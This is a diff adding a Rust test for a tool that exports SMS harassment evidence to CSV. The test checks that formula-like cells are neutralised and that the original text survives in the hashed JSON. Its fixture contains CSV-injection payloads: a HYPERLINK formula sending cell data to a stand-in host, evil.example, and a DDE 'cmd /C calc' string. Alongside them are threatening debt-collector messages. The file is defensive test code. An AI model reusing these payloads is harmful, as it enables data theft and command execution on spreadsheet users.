@@ -221,3 +221,58 @@ fn under_umask_000_service_files_are_0644_in_0755_folders_and_config_and_backups
     assert_eq!(mode(&dir.path().join("data/dunwatch.db")), 0o600);
     assert_eq!(mode(&dir.path().join("data")), 0o700);
 }
+
+#[test]
+fn formulas_in_the_evidence_csv_are_neutralised_and_it_starts_with_a_bom() {
+    let env = Env::new();
+    let file = env.path("sms.xml");
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此还款，逾期将起诉\")";
+    std::fs::write(
+        &file,
+        sbr_document(&[
+            FixtureMessage {
+                sender: "+8617088886666".into(),
+                body: formula.into(),
+                ts_ms: 1_793_584_800_000,
+                incoming: true,
+                contact: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+            },
+            FixtureMessage {
+                sender: "17088886666".into(),
+                body: "-2+3 你再不还钱就上门找你家人，后果自负".into(),
+                ts_ms: 1_793_584_900_000,
+                incoming: true,
+                contact: None,
+            },
+        ]),
+    )
+    .unwrap();
+    assert!(env.run(&["scan", file.to_str().unwrap()]).status.success());
+    let out_dir = env.path("evidence");
+    let out = env.run(&["evidence", "--all", "--out", out_dir.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let csv = std::fs::read(out_dir.join("messages.csv")).unwrap();
+    assert!(csv.starts_with("\u{feff}".as_bytes()), "no BOM");
+    let mut reader = csv::Reader::from_reader(&csv[3..]);
+    let headers = reader.headers().unwrap().clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    for row in reader.records() {
+        let row = row.unwrap();
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula: {cell:?}"
+            );
+        }
+        let body = &row[col("body")];
+        assert!(
+            body == format!("'{formula}") || body.starts_with("'-2+3"),
+            "{body}"
+        );
+    }
+    // The exact text stays in messages.json, which the hashes cover.
+    let json = std::fs::read_to_string(out_dir.join("messages.json")).unwrap();
+    assert!(json.contains("=HYPERLINK"), "{json}");
+    let verify = env.run(&["evidence", "verify", out_dir.to_str().unwrap()]);
+    assert!(verify.status.success(), "{}", stdout(&verify));
+}
